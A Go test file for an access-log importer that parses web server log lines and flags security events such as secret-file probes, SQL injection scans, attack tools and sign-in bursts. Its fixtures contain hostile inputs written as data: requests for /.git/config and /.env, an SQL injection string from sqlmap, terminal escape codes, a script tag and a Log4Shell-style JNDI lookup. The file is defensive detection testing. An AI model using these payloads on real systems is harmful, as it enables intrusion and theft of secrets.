package format

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func TestAccessLines(t *testing.T) {
	at := time.Date(2026, 3, 1, 11, 0, 0, 0, time.UTC)
	type parts struct{ Client, User, Host, Method, Target, Referer, Agent string }
	for _, test := range []struct {
		name, line string
		want       parts
		status     int
	}{
		{"common", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" 200 5`, parts{"203.0.113.9", "", "", "GET", "/", "", ""}, 200},
		{"combined", `203.0.113.9 - alice [01/Mar/2026:12:00:00 +0100] "POST /x?a=b HTTP/1.1" 302 0 "https://example.com/" "Firefox"`, parts{"203.0.113.9", "alice", "", "POST", "/x?a=b", "https://example.com/", "Firefox"}, 302},
		{"fields behind", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/2.0" 200 5 "-" "curl/8.5.0" "198.51.100.1" rt=0.005 uct="0.001"`, parts{"203.0.113.9", "", "", "GET", "/", "", "curl/8.5.0"}, 200},
		{"virtual host", `www.example.com:443 203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" 200 5 "-" "-"`, parts{"203.0.113.9", "", "www.example.com", "GET", "/", "", ""}, 200},
		{"a virtual host that is an address", `192.0.2.1 203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" 200 5`, parts{"203.0.113.9", "", "192.0.2.1", "GET", "/", "", ""}, 200},
		{"a word more", `example.com 203.0.113.9 - req7 - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" 200 5 "-" "-"`, parts{"203.0.113.9", "", "example.com", "GET", "/", "", ""}, 200},
		{"behind syslog", `Mar  1 12:00:00 web1 nginx[17]: 203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" 200 5 "-" "x"`, parts{"203.0.113.9", "", "", "GET", "/", "", "x"}, 200},
		{"IPv6", `2001:db8::1 - - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" 200 5`, parts{"2001:db8::1", "", "", "GET", "/", "", ""}, 200},
		{"a name", `crawl.example.com - - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" 200 5`, parts{"crawl.example.com", "", "", "GET", "/", "", ""}, 200},
		{"ISO time", `203.0.113.9 - - [2026-03-01T12:00:00+01:00] "GET / HTTP/1.1" 200 5`, parts{"203.0.113.9", "", "", "GET", "/", "", ""}, 200},
		{"quotes within", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET /?q=\"a\" HTTP/1.1" 200 5 "-" "say \"hi\" \\ \x41"`, parts{"203.0.113.9", "", "", "GET", `/?q="a"`, "", `say "hi" \ A`}, 200},
		{"blanks in the target", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET /a b?c d HTTP/1.0" 404 5`, parts{"203.0.113.9", "", "", "GET", "/a b?c d", "", ""}, 404},
		{"HTTP/0.9", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET /" 200 5`, parts{"203.0.113.9", "", "", "GET", "/", "", ""}, 200},
		{"not HTTP", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "\x16\x03\x01" 400 5 "-" "-"`, parts{"203.0.113.9", "", "", "", "\x16\x03\x01", "", ""}, 400},
		{"nothing sent", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "-" 408 0 "-" "-"`, parts{"203.0.113.9", "", "", "", "-", "", ""}, 408},
		{"no status", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" - - "-" "-"`, parts{"203.0.113.9", "", "", "GET", "/", "", ""}, 0},
		{"brackets before the time", `203.0.113.9 - [x] [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" 200 5`, parts{"203.0.113.9", "[x]", "", "GET", "/", "", ""}, 200},
		{"a cut agent", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" 200 5 "-" "Mozil`, parts{"203.0.113.9", "", "", "GET", "/", "", ""}, 200},
	} {
		l, err := parseAccessLine(test.line, time.UTC)
		if err != nil {
			t.Errorf("%s: %v", test.name, err)
			continue
		}
		got := parts{l.client, l.user, l.Host, l.Method, l.Target, l.Referer, l.UserAgent}
		if diff := cmp.Diff(test.want, got); diff != "" || l.Status != test.status || !l.Time.Equal(at) {
			t.Errorf("%s: status %d at %s, (-want +got)\n%s", test.name, l.Status, l.Time, diff)
		}
	}
	for _, test := range []struct{ name, line, want string }{
		{"no time", `203.0.113.9 - - "GET / HTTP/1.1" 200 5`, "no time"},
		{"a time of no calendar", `203.0.113.9 - - [31/Feb/2026:12:00:00 +0100] "GET / HTTP/1.1" 200 5`, "no time"},
		{"nobody", `[01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" 200 5`, "3: address"},
		{"no quotes", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] GET / 200 5`, "quotes"},
		{"cut off in the request", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET /abc`, "quotes"},
		{"no status", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1"`, "status"},
		{"a status that is none", `203.0.113.9 - - [01/Mar/2026:12:00:00 +0100] "GET / HTTP/1.1" abc 5`, "status"},
		{"another program", `Mar  1 12:00:00 web1 sshd[5]: Accepted password`, "no time"},
	} {
		if _, err := parseAccessLine(test.line, time.UTC); err == nil || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%s: got %v, want an error with %q", test.name, err, test.want)
		}
	}
}

// accessLog is a made-up log: ordinary requests, a probe, a scan that goes on for
// longer than a window, guesses at a password, and a line that is none.
func accessLog() string {
	var b strings.Builder
	start := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	line := func(after time.Duration, client, user, request string, status int, agent string) {
		fmt.Fprintf(&b, "%s - %s [%s] \"%s HTTP/1.1\" %d 5 \"-\" \"%s\"\n", client, user, start.Add(after).Format("02/Jan/2006:15:04:05 -0700"), request, status, agent)
	}
	for i := range 50 {
		line(time.Duration(i)*time.Second, "198.51.100.7", "alice", fmt.Sprintf("GET /orders/%d", i), 200, "Firefox")
	}
	line(time.Minute, "203.0.113.9", "-", "GET /.git/config", 404, "curl/8.5.0")
	for i := range 900 {
		line(2*time.Minute+time.Duration(i)*time.Second, "192.0.2.66", "-", fmt.Sprintf("GET /item?id=%d%%27%%20or%%20%%271%%27=%%271", i), 200, "sqlmap/1.7")
	}
	for i := range 12 {
		line(20*time.Minute+time.Duration(i)*time.Second, "192.0.2.99", "-", "POST /login", 401, "Firefox")
	}
	b.WriteString("half a li\n")
	return b.String()
}

func TestAccessLogImport(t *testing.T) {
	text := []byte(accessLog())
	for name, content := range map[string][]byte{"access.log": text, "access.log.gz": packed(t, text)} {
		path := testFile(t, name, content)
		store, summary, bad := testImport(t, "accesslog", ImportOptions{}, path)
		if len(bad) != 1 || !strings.Contains(bad[0], ":964: there is no time") {
			t.Errorf("%s: bad lines: got %q, want line 964", name, bad)
		}
		if summary.Read != 964 {
			t.Errorf("%s: got %s, want 964 lines read", name, summary)
		}
		if summary.Read != summary.Skipped+summary.Ignored+4 {
			t.Errorf("%s: got %s, want 4 lines that gave events, and every other accounted for", name, summary)
		}
		if got, want := summary.Reasons[ordinary], int64(50+10); got != want {
			t.Errorf("%s: %d ordinary requests, want %d", name, got, want)
		}
		var got []string
		for _, e := range store.events {
			var meta map[string]any
			if err := json.Unmarshal([]byte(e.Get("metadata")), &meta); err != nil {
				t.Fatal(err)
			}
			count := meta["count"]
			if count == nil {
				count = 1
			}
			got = append(got, fmt.Sprint(e.Get("timestamp")[11:19], " ", e.Get("event_type"), " ", e.Get("error_code"), " ", e.Get("ip_address"), " ", count, " ", meta["method"], " ", meta["path"], " ", meta["user_agent"]))
		}
		want := []string{
			"12:01:00 SECURITY secret-file 203.0.113.9 1 GET /.git/config curl/8.5.0",
			"12:02:00 SECURITY sql-injection 192.0.2.66 600 GET /item sqlmap/1.7",
			"12:02:00 SECURITY attack-tool 192.0.2.66 600 GET /item sqlmap/1.7",
			"12:12:00 SECURITY sql-injection 192.0.2.66 300 GET /item sqlmap/1.7",
			"12:12:00 SECURITY attack-tool 192.0.2.66 300 GET /item sqlmap/1.7",
			"12:20:05 SECURITY sign-in-burst 192.0.2.99 2 POST /login Firefox",
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s: (-want +got)\n%s", name, diff)
		}
		again(t, store, "accesslog", ImportOptions{}, path)

		// A log that has grown since has the same events, and those of the new lines.
		grown := testFile(t, "grown", append([]byte(accessLog()), `203.0.113.9 - - [01/Mar/2026:13:00:00 +0000] "GET /.env HTTP/1.1" 404 5 "-" "-"`...))
		before := len(store.events)
		if _, _, err := importInto(store, "accesslog", ImportOptions{}, grown); err != nil {
			t.Fatal(err)
		}
		if added := len(store.events) - before; added != 1 {
			t.Errorf("%s: a new line added %d events, want 1", name, added)
		}
	}
}

func TestAccessLogOfNamesAndHostileText(t *testing.T) {
	path := testFile(t, "log", []byte(`evil.example.com - - [01/Mar/2026:12:00:00 +0000] "GET /.env?x=%1b[2J\x1b[2J<script> HTTP/1.1" 404 5 "-" "\xff\xfe`+"\xff"+`${jndi:ldap://x/a}"`+"\n"))
	store, _, bad := testImport(t, "accesslog", ImportOptions{}, path)
	if len(bad) > 0 || len(store.events) == 0 {
		t.Fatalf("got %d events and %q", len(store.events), bad)
	}
	for _, e := range store.events {
		if e.Get("ip_address") != "" || !strings.Contains(e.Get("metadata"), `"address":"evil.example.com"`) {
			t.Errorf("the name of the client: got %q in %s", e.Get("ip_address"), e.Get("metadata"))
		}
	}
}

func FuzzAccessLine(f *testing.F) {
	for line := range strings.Lines(accessLog()) {
		f.Add(strings.TrimSpace(line))
		break
	}
	f.Add(`a b c [01/Mar/2026:12:00:00 +0100] "\x" 200 - "\`)
	f.Fuzz(func(t *testing.T, line string) {
		if l, err := parseAccessLine(line, time.UTC); err == nil && (l.Time.IsZero() || l.client == "") {
			t.Errorf("%q: got no time or no client, and no error", line)
		}
	})
}
